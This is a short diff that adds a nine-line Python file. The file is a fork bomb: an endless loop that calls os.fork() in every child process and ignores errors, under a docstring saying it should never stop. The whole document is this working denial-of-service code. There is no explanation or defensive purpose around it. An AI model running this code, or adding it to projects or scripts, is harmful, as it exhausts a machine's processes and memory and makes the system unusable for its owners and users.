@@ -1,0 +1,9 @@
+"""Fork in every child as well, and never stop."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
